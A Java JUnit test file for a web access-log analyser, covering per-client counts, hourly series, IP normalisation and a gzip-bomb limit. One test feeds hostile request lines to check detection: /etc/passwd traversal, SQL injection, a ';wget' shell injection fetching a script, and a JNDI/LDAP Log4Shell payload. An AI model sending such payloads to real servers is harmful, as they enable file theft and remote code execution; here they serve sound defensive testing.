package dev.logverdict.log.activity;

import dev.logverdict.ip.IpAddressParser;
import dev.logverdict.log.LogScanner;
import dev.logverdict.log.ScanOptions;
import dev.logverdict.log.TrafficScan;
import dev.logverdict.support.TestSettings;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.FilterInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.HashMap;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.zip.GZIPOutputStream;

import static org.assertj.core.api.Assertions.assertThat;

class ClientActivityTest {

    private static String line(String ip, String time, String request, int status, String size, String agent) {
        return ip + " - - [" + time + " +0000] \"" + request + "\" " + status + " " + size + " \"-\" \"" + agent
                + "\"\n";
    }

    private static final DateTimeFormatter CLF_TIME =
            DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss", Locale.ENGLISH).withZone(ZoneOffset.UTC);

    /** The series must start at the first hour with a request and hold every hour's count up to the last. */
    private static void assertSeries(
            ActivityDetail detail, Instant base, TreeMap<Integer, Integer> hours, String client) {
        int first = hours.firstKey();
        int[] series = new int[hours.lastKey() - first + 1];
        hours.forEach((hour, count) -> series[hour - first] = count);
        assertThat(Instant.ofEpochSecond(detail.hourlyStart())).as(client).isEqualTo(base.plusSeconds(first * 3600L));
        assertThat(detail.hourly()).as(client).containsExactly(series);
    }

    private static TrafficScan scan(String log, ScanOptions options) throws IOException {
        return new LogScanner(options).scan(new ByteArrayInputStream(log.getBytes(StandardCharsets.UTF_8)));
    }

    private static ClientActivity of(TrafficScan scan, String ip) {
        return scan.clients().get(IpAddressParser.parse(ip));
    }

    @Test
    void countsBytesStatusesMethodsAndTopPathsPerClient() throws IOException {
        String ip = "185.220.101.7";
        String log = line(ip, "27/Nov/2026:10:00:00", "GET /index.html HTTP/1.1", 200, "1000", "Mozilla/5.0")
                + line(ip, "27/Nov/2026:10:00:01", "GET /index.html?x=1 HTTP/1.1", 200, "1000", "Mozilla/5.0")
                + line(ip, "27/Nov/2026:10:00:02", "POST /login HTTP/1.1", 302, "-", "Mozilla/5.0")
                + line(ip, "27/Nov/2026:10:00:03", "BREW /pot HTTP/1.1", 418, "5", "curl/8.5.0")
                + line(ip, "27/Nov/2026:10:00:04", "GET /missing HTTP/1.1", 404, "0", "Mozilla/5.0")
                + line(ip, "27/Nov/2026:10:00:05", "GET /boom HTTP/1.1", 503, "10", "Mozilla/5.0");
        ClientActivity activity = of(scan(log, TestSettings.scanOptions()), ip);
        assertThat(activity.requests()).isEqualTo(6);
        assertThat(activity.bytes()).isEqualTo(2015);
        ActivityDetail detail = activity.detail();
        assertThat(detail.statusClasses())
                .containsExactly(
                        Map.entry("2xx", 2L), Map.entry("3xx", 1L), Map.entry("4xx", 2L), Map.entry("5xx", 1L));
        assertThat(detail.methods())
                .containsExactly(Map.entry("GET", 4L), Map.entry("POST", 1L), Map.entry("OTHER", 1L));
        assertThat(detail.topPaths()).first().isEqualTo(new TopN.Entry("/index.html", 2));
        assertThat(detail.topPaths()).hasSize(5);
        assertThat(detail.topUserAgents())
                .containsExactly(new TopN.Entry("Mozilla/5.0", 5), new TopN.Entry("curl/8.5.0", 1));
        assertThat(activity.signals()).isEmpty();
    }

    /** Hands out reads of a random 1..4096 bytes, so lines straddle reads and the line buffer is reused. */
    private static InputStream unevenReads(byte[] log, long seed) {
        Random random = new Random(seed);
        return new FilterInputStream(new ByteArrayInputStream(log)) {
            @Override
            public int read(byte[] b, int off, int len) throws IOException {
                return super.read(b, off, Math.min(len, 1 + random.nextInt(4096)));
            }
        };
    }

    @Test
    void keepsEveryClientsTextsAndCountsExactAcrossReusedLineBuffers() throws IOException {
        // Requests are counted in batches after parsing; a batch must be counted before the buffer its
        // texts point into is refilled. Clients arrive throughout the log, so texts are taken throughout;
        // 4 paths and 2 agents each: few enough for exact counts.
        Random random = new Random(3);
        StringBuilder log = new StringBuilder();
        Map<String, Map<String, Long>> expectedPaths = new HashMap<>();
        Map<String, Map<String, Long>> expectedAgents = new HashMap<>();
        Map<String, Long> expectedBytes = new HashMap<>();
        for (int i = 0; i < 20_000; i++) {
            int client = i / 40 + random.nextInt(10);
            String ip = "203.0." + (client / 256) + "." + (client % 256);
            String path = "/client-" + client + "/page-" + random.nextInt(4);
            int variant = random.nextInt(2);
            String agent = "agent-" + client + "-" + variant + " " + "x".repeat(client % 100 + variant);
            int size = random.nextInt(5000);
            log.append(line(
                    ip,
                    "27/Nov/2026:10:00:00",
                    "GET " + path + "?q=" + i + " HTTP/1.1",
                    200,
                    String.valueOf(size),
                    agent));
            expectedPaths.computeIfAbsent(ip, k -> new HashMap<>()).merge(path, 1L, Long::sum);
            expectedAgents.computeIfAbsent(ip, k -> new HashMap<>()).merge(agent, 1L, Long::sum);
            expectedBytes.merge(ip, (long) size, Long::sum);
        }
        byte[] bytes = log.toString().getBytes(StandardCharsets.US_ASCII);
        assertThat(bytes.length).isGreaterThan(20 * 65_536);
        TrafficScan scan = new LogScanner(TestSettings.scanOptions(
                        "max-line-bytes=1024", "malformed-samples=20", "max-non-ip-clients=10"))
                .scan(unevenReads(bytes, 5));
        assertThat(scan.clients()).hasSize(expectedPaths.size());
        expectedPaths.forEach((ip, paths) -> {
            ClientActivity activity = of(scan, ip);
            assertThat(activity.bytes()).as(ip).isEqualTo(expectedBytes.get(ip));
            assertThat(activity.detail().topPaths())
                    .as(ip)
                    .containsExactlyInAnyOrderElementsOf(paths.entrySet().stream()
                            .map(e -> new TopN.Entry(e.getKey(), e.getValue()))
                            .toList());
            assertThat(activity.detail().topUserAgents())
                    .as(ip)
                    .containsExactlyInAnyOrderElementsOf(expectedAgents.get(ip).entrySet().stream()
                            .map(e -> new TopN.Entry(
                                    e.getKey()
                                            .substring(
                                                    0, Math.min(200, e.getKey().length())),
                                    e.getValue()))
                            .toList());
        });
    }

    @Test
    void findsTheHeavyHittersAmongManyDistinctPaths() throws IOException {
        StringBuilder log = new StringBuilder();
        for (int i = 0; i < 500; i++) {
            log.append(line("185.220.101.8", "27/Nov/2026:10:00:00", "GET /probe-" + i + " HTTP/1.1", 404, "0", "x"));
            if (i % 5 == 0) {
                log.append(line("185.220.101.8", "27/Nov/2026:10:00:00", "GET /wp-login.php HTTP/1.1", 404, "0", "x"));
            }
        }
        ActivityDetail detail = of(scan(log.toString(), TestSettings.scanOptions()), "185.220.101.8")
                .detail();
        assertThat(detail.topPaths().get(0).value()).isEqualTo("/wp-login.php");
        assertThat(detail.topPaths().get(0).count()).isGreaterThanOrEqualTo(100);
    }

    @Test
    void raisesSignalsForScannersTraversalInjectionAndProbes() throws IOException {
        String ip = "45.155.205.233";
        String log = line(ip, "27/Nov/2026:10:00:00", "GET /.env HTTP/1.1", 404, "0", "Mozilla/5.0")
                + line(ip, "27/Nov/2026:10:00:01", "GET /.git/config HTTP/1.1", 404, "0", "Mozilla/5.0")
                + line(
                        ip,
                        "27/Nov/2026:10:00:02",
                        "GET /cgi-bin/..%2F..%2F..%2Fetc/passwd HTTP/1.1",
                        400,
                        "0",
                        "Mozilla/5.0")
                + line(
                        ip,
                        "27/Nov/2026:10:00:03",
                        "GET /item?id=1%27%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1",
                        500,
                        "0",
                        "sqlmap/1.7.2#stable (https://sqlmap.org)")
                + line(
                        ip,
                        "27/Nov/2026:10:00:04",
                        "GET /ping?host=127.0.0.1;wget%20http://x/s.sh HTTP/1.1",
                        200,
                        "0",
                        "Mozilla/5.0")
                + line(ip, "27/Nov/2026:10:00:05", "GET / HTTP/1.1", 200, "0", "${jndi:ldap://198.51.100.9:1389/a}")
                + line(
                        ip,
                        "27/Nov/2026:10:00:06",
                        "POST /wp-login.php HTTP/1.1",
                        200,
                        "0",
                        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)");
        ClientActivity activity = of(scan(log, TestSettings.scanOptions()), ip);
        assertThat(activity.signals())
                .containsOnly(
                        Map.entry(Signal.SENSITIVE_FILE_PROBE, 2),
                        Map.entry(Signal.PATH_TRAVERSAL, 1),
                        Map.entry(Signal.ADMIN_PROBE, 2),
                        Map.entry(Signal.SQL_INJECTION, 1),
                        Map.entry(Signal.SCANNER_USER_AGENT, 2),
                        Map.entry(Signal.SHELL_INJECTION, 1),
                        Map.entry(Signal.JNDI_INJECTION, 1));
        assertThat(activity.signalWeight()).isEqualTo(10);
    }

    @Test
    void ordinaryBrowsingRaisesNoSignal() throws IOException {
        String ip = "93.184.216.34";
        String log = line(
                        ip,
                        "27/Nov/2026:10:00:00",
                        "GET /products/select-a-size?color=blue HTTP/1.1",
                        200,
                        "10",
                        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 Version/17.1 Safari/605.1.15")
                + line(ip, "27/Nov/2026:10:00:01", "GET /static/app.3f9a.js HTTP/2.0", 200, "10", "Mozilla/5.0")
                + line(ip, "27/Nov/2026:10:00:02", "GET /blog/union-station-review HTTP/1.1", 200, "10", "Mozilla/5.0");
        assertThat(of(scan(log, TestSettings.scanOptions()), ip).signals()).isEmpty();
    }

    @Test
    void chartsRequestsPerHourAcrossTheLog() throws IOException {
        String ip = "185.220.101.9";
        String log = line(ip, "27/Nov/2026:12:59:59", "GET / HTTP/1.1", 200, "1", "x")
                + line(ip, "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x")
                + line(ip, "27/Nov/2026:10:30:00", "GET / HTTP/1.1", 200, "1", "x")
                + line(ip, "27/Nov/2026:13:00:00", "GET / HTTP/1.1", 200, "1", "x");
        ActivityDetail detail = of(scan(log, TestSettings.scanOptions()), ip).detail();
        assertThat(Instant.ofEpochSecond(detail.hourlyStart())).isEqualTo(Instant.parse("2026-11-27T10:00:00Z"));
        assertThat(detail.hourly()).containsExactly(2, 0, 1, 1);
    }

    @Test
    void chartsEveryHourExactlyWhenSeriesGrowBothWaysAndReuseEachOthersSpace() throws IOException {
        // Out-of-order hours over 25 days make series move to larger blocks, forwards and backwards, and
        // other clients take over the blocks they leave.
        Random random = new Random(23);
        Instant base = Instant.parse("2026-11-01T00:00:00Z");
        Map<String, TreeMap<Integer, Integer>> expected = new HashMap<>();
        StringBuilder log = new StringBuilder();
        for (int i = 0; i < 6_000; i++) {
            String ip = "198.18.0." + random.nextInt(40);
            int hour = random.nextInt(600);
            log.append(line(
                    ip,
                    CLF_TIME.format(base.plusSeconds(hour * 3600L + random.nextInt(3600))),
                    "GET / HTTP/1.1",
                    200,
                    "1",
                    "x"));
            expected.computeIfAbsent(ip, k -> new TreeMap<>()).merge(hour, 1, Integer::sum);
        }
        TrafficScan scan = scan(log.toString(), TestSettings.scanOptions());
        expected.forEach((ip, hours) -> assertSeries(of(scan, ip).detail(), base, hours, ip));
        assertThat(scan.truncated()).noneMatch(note -> note.startsWith("hourly:"));
    }

    @ParameterizedTest(name = "hour log of {0} client-hours")
    @ValueSource(ints = {ClientStore.HOUR_LOG_BUDGET, 7})
    void keepsEachSeriesWithinItsWindowInArrivalOrderAndCountsWhatFellOutside(int hourLogBudget) throws IOException {
        // 50 days, mostly in time order with runs in one hour, and one request in six from up to 40 days
        // back: a series spans at most MAX_HOURS from its first kept hour, an earlier hour is kept only if
        // the series still fits, and which requests fall outside depends on the order they came in, which
        // counting an hour's requests together must not change.
        Random random = new Random(31);
        Instant base = Instant.parse("2026-09-01T00:00:00Z");
        Map<String, WindowedSeries> expected = new HashMap<>();
        StringBuilder log = new StringBuilder();
        int now = 0;
        for (int i = 0; i < 20_000; i++) {
            now = Math.min(1_199, now + (random.nextInt(20) == 0 ? 1 : 0));
            int hour = random.nextInt(6) == 0 ? Math.max(0, now - random.nextInt(960)) : now;
            // Clients come and go, so a request from weeks back can land before a client's first hour.
            String ip = "198.18.1." + (now / 50 + random.nextInt(4));
            log.append(line(
                    ip,
                    CLF_TIME.format(base.plusSeconds(hour * 3600L + random.nextInt(3600))),
                    "GET / HTTP/1.1",
                    200,
                    "1",
                    "x"));
            expected.computeIfAbsent(ip, k -> new WindowedSeries()).add(hour);
        }
        // A small hour log is sorted into the series hundreds of times, mid-hour and between a client's hours.
        TrafficScan scan = new LogScanner(TestSettings.scanOptions(), hourLogBudget)
                .scan(new ByteArrayInputStream(log.toString().getBytes(StandardCharsets.UTF_8)));

        expected.forEach((ip, series) -> assertSeries(of(scan, ip).detail(), base, series.counts, ip));
        long dropped =
                expected.values().stream().mapToLong(series -> series.dropped).sum();
        assertThat(dropped)
                .as("the log must push some requests out of their window")
                .isPositive();
        assertThat(scan.truncated())
                .contains("hourly: " + dropped + " requests fell outside an IP's " + ActivityContext.MAX_HOURS
                        + "-hour window or past the series' memory bound and are not charted (still counted)");
    }

    /** The window rule, request by request in arrival order. */
    private static final class WindowedSeries {
        final TreeMap<Integer, Integer> counts = new TreeMap<>();
        long dropped;

        void add(int hour) {
            boolean fits = counts.isEmpty()
                    || (hour < counts.firstKey()
                            ? counts.lastKey() - hour + 1 <= ActivityContext.MAX_HOURS
                            : hour - counts.firstKey() < ActivityContext.MAX_HOURS);
            if (fits) {
                counts.merge(hour, 1, Integer::sum);
            } else {
                dropped++;
            }
        }
    }

    @ParameterizedTest(name = "hour log of {0} client-hours")
    @ValueSource(ints = {ClientStore.HOUR_LOG_BUDGET, 500})
    void keepsEverySeriesExactWhenLeftBehindBlocksAreCompactedAway(int hourLogBudget) throws IOException {
        // 3,000 clients over a month in time order: every series grows in step and leaves its smaller blocks
        // behind, megabytes of them, which the store compacts while it counts. With a small hour log the
        // series grow a few hours at a time, so pages a compaction emptied are taken again.
        Random random = new Random(29);
        Instant base = Instant.parse("2026-10-01T00:00:00Z");
        Map<Integer, TreeMap<Integer, Integer>> expected = new HashMap<>();
        StringBuilder log = new StringBuilder();
        for (int hour = 0; hour < 720; hour += 6) {
            String time = CLF_TIME.format(base.plusSeconds(hour * 3600L));
            for (int client = 0; client < 3_000; client++) {
                if (random.nextInt(4) == 0) {
                    log.append(line(
                            "10.1." + (client / 256) + "." + (client % 256), time, "GET / HTTP/1.1", 200, "1", "x"));
                    expected.computeIfAbsent(client, k -> new TreeMap<>()).merge(hour, 1, Integer::sum);
                }
            }
        }
        TrafficScan scan = new LogScanner(TestSettings.scanOptions(), hourLogBudget)
                .scan(new ByteArrayInputStream(log.toString().getBytes(StandardCharsets.UTF_8)));
        expected.forEach((client, hours) -> {
            String ip = "10.1." + (client / 256) + "." + (client % 256);
            assertSeries(of(scan, ip).detail(), base, hours, ip);
        });
    }

    @Test
    void chartsAClientWhoseRequestsAreCenturiesApartWithinItsWindowAndSaysWhatFellOutside() throws IOException {
        // A forged year 2999 is more hours from 2026 than the hour log's offsets hold: the log is added to the
        // series first, and the window rule drops the far request as it would any other.
        String ip = "198.51.100.77";
        String log = line(ip, "27/Nov/2026:10:15:00", "GET / HTTP/1.1", 200, "1", "x")
                + line(ip, "27/Nov/2999:10:15:00", "GET / HTTP/1.1", 200, "1", "x")
                + line(ip, "27/Nov/2026:12:15:00", "GET / HTTP/1.1", 200, "1", "x")
                + line("198.51.100.78", "01/Jan/1971:00:00:00", "GET / HTTP/1.1", 200, "1", "x")
                + line("198.51.100.78", "01/Jan/1971:01:00:00", "GET / HTTP/1.1", 200, "1", "x");
        TrafficScan scan = scan(log, TestSettings.scanOptions());

        assertThat(of(scan, ip).requests()).isEqualTo(3);
        assertThat(of(scan, ip).detail().hourly()).containsExactly(1, 0, 1);
        assertThat(Instant.ofEpochSecond(of(scan, ip).detail().hourlyStart()))
                .isEqualTo(Instant.parse("2026-11-27T10:00:00Z"));
        assertThat(of(scan, "198.51.100.78").detail().hourly()).containsExactly(1, 1);
        assertThat(scan.truncated())
                .contains("hourly: 1 requests fell outside an IP's " + ActivityContext.MAX_HOURS
                        + "-hour window or past the series' memory bound and are not charted (still counted)");
    }

    @Test
    void countsAnAddressOnceHoweverWrittenAndKeepsIpv4AndIpv6WithTheSameLowBitsApart() throws IOException {
        String log = line("0.0.0.1", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x")
                + line("::1", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x")
                + line("::1", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x")
                + line("198.51.100.4", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x")
                + line("::ffff:198.51.100.4", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x")
                + line("2001:db8::c633:6404", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x")
                + line("[2001:DB8:0:0:0:0:C633:6404]", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x")
                + line("2001:db8:0::198.51.100.4", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x");
        TrafficScan scan = scan(log, TestSettings.scanOptions());
        assertThat(scan.clients()).hasSize(4);
        assertThat(of(scan, "0.0.0.1").requests()).isEqualTo(1);
        assertThat(of(scan, "::1").requests()).isEqualTo(2);
        assertThat(of(scan, "198.51.100.4").requests()).isEqualTo(2);
        // The same IPv6 client written three ways: compressed, in full and bracketed, with its IPv4 tail.
        assertThat(of(scan, "2001:db8::c633:6404").requests()).isEqualTo(3);
        assertThat(scan.clients().keySet())
                .extracting(Object::toString)
                .containsExactlyInAnyOrder("0.0.0.1", "::1", "198.51.100.4", "2001:db8::c633:6404");
    }

    @Test
    void findsEveryClientAgainAfterBothAddressTablesGrew() throws IOException {
        StringBuilder log = new StringBuilder();
        for (int round = 0; round < 2; round++) {
            for (int i = 0; i < 5_000; i++) {
                log.append(line(
                        "2001:db8::" + Integer.toHexString(i),
                        "27/Nov/2026:10:00:00",
                        "GET / HTTP/1.1",
                        200,
                        "1",
                        "x"));
                log.append(line(
                        "10.7." + (i / 256) + "." + (i % 256),
                        "27/Nov/2026:10:00:00",
                        "GET / HTTP/1.1",
                        200,
                        "1",
                        "x"));
            }
        }
        TrafficScan scan = scan(log.toString(), TestSettings.scanOptions());
        assertThat(scan.clients()).hasSize(10_000);
        assertThat(scan.clients().entrySet())
                .hasSize(10_000)
                .allSatisfy(entry -> assertThat(entry.getValue().requests())
                        .as(entry.getKey().toString())
                        .isEqualTo(2));
        assertThat(of(scan, "2001:db8::1387").requests()).isEqualTo(2);
        assertThat(of(scan, "10.7.19.135").requests()).isEqualTo(2);
    }

    @Test
    void countsAnHourBeyondWhatOneBucketHolds() throws IOException {
        // Buckets hold 65,535; a flood from one address in one hour is counted in full all the same.
        String ip = "203.0.113.99";
        String flood = line(ip, "27/Nov/2026:10:15:00", "GET / HTTP/1.1", 200, "1", "x");
        StringBuilder log = new StringBuilder(flood.length() * 70_001);
        log.append(line(ip, "27/Nov/2026:09:59:59", "GET / HTTP/1.1", 200, "1", "x"));
        log.append(flood.repeat(70_000));
        ActivityDetail detail =
                of(scan(log.toString(), TestSettings.scanOptions()), ip).detail();
        assertThat(detail.hourly()).containsExactly(1, 70_000);
        // An hour's 70,000 take two entries of the hour log; with room for one, it fills between them.
        ActivityDetail split = of(
                        new LogScanner(TestSettings.scanOptions(), 1)
                                .scan(new ByteArrayInputStream(log.toString().getBytes(StandardCharsets.UTF_8))),
                        ip)
                .detail();
        assertThat(split.hourly()).containsExactly(1, 70_000);
    }

    @Test
    void keepsCountingEveryIpPastTheDetailCapAndSaysSo() throws IOException {
        StringBuilder log = new StringBuilder();
        for (int i = 0; i < 50; i++) {
            log.append(
                    line("185.220." + (100 + i) + ".1", "27/Nov/2026:10:00:00", "GET /.env HTTP/1.1", 404, "0", "x"));
        }
        TrafficScan scan = scan(log.toString(), TestSettings.scanOptions("max-detailed-ips=10"));
        assertThat(scan.clients()).hasSize(50);
        assertThat(scan.clients().values().stream().filter(a -> a.detail() != null))
                .hasSize(10);
        assertThat(scan.clients().values()).allSatisfy(a -> {
            assertThat(a.requests()).isEqualTo(1);
            assertThat(a.signals()).containsEntry(Signal.SENSITIVE_FILE_PROBE, 1);
        });
        assertThat(scan.truncated())
                .anySatisfy(note -> assertThat(note).startsWith("activity:").contains("40 more IPs"));
    }

    @Test
    void cutsADecompressionBombOffAtTheConfiguredSize() throws IOException {
        ByteArrayOutputStream compressed = new ByteArrayOutputStream();
        byte[] zeros = new byte[1 << 20];
        try (GZIPOutputStream gzip = new GZIPOutputStream(compressed)) {
            gzip.write(line("185.220.101.10", "27/Nov/2026:10:00:00", "GET / HTTP/1.1", 200, "1", "x")
                    .getBytes(StandardCharsets.US_ASCII));
            for (int i = 0; i < 64; i++) {
                gzip.write(zeros);
            }
        }
        assertThat(compressed.size()).isLessThan(200_000);
        TrafficScan scan = new LogScanner(TestSettings.scanOptions(
                        "max-line-bytes=1024",
                        "malformed-samples=20",
                        "max-non-ip-clients=10",
                        "max-detailed-ips=100",
                        "max-uncompressed-bytes=" + (8L << 20)))
                .scan(new ByteArrayInputStream(compressed.toByteArray()));
        assertThat(scan.inputError()).contains("reading stopped after 8388608 uncompressed bytes");
        assertThat(scan.truncated()).anySatisfy(note -> assertThat(note).startsWith("input:"));
        assertThat(scan.bytesRead()).isEqualTo(8L << 20);
        assertThat(scan.clients()).containsKey(IpAddressParser.parse("185.220.101.10"));
    }
}
